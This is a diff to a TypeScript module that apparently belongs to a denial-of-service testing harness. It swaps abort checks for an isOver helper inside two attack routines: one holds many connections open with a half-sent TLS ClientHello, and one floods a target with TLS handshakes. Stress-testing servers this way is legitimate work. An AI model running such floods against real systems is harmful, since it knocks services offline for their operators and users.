@@ -1,5 +1,5 @@
 import { connect, type Socket } from 'node:net';
-import { rest, together, type Attack, type AttackContext } from '../attack.js';
+import { isOver, rest, together, type Attack, type AttackContext } from '../attack.js';
 import { openSocket } from '../peer.js';
 
 // A record of type handshake that promises a ClientHello of 508 bytes, and the first of them.
@@ -7,7 +7,7 @@ const halfClientHello = Buffer.concat([Buffer.from('1603010200010001fc0303', 'he
 
 async function holdMany(context: AttackContext, said: Buffer): Promise<void> {
   const held = new Set<Socket>();
-  while (!context.signal.aborted) {
+  while (!isOver(context)) {
     for (let at = 0; at < 64 && held.size < context.maxConnections + 100; at++) {
       const socket = connect({ host: context.target.host, port: context.target.port });
       socket.on('error', () => undefined);
@@ -50,7 +50,7 @@ export const tlsHandshakeFlood: Attack = {
   enough: { what: 'handshakes', count: 200 },
   run: (context) =>
     together(64, async () => {
-      while (!context.signal.aborted) {
+      while (!isOver(context)) {
         const socket = await openSocket(context.target);
         context.count(socket === undefined ? 'refused' : 'handshakes');
         if (socket === undefined) await rest(context, 5);
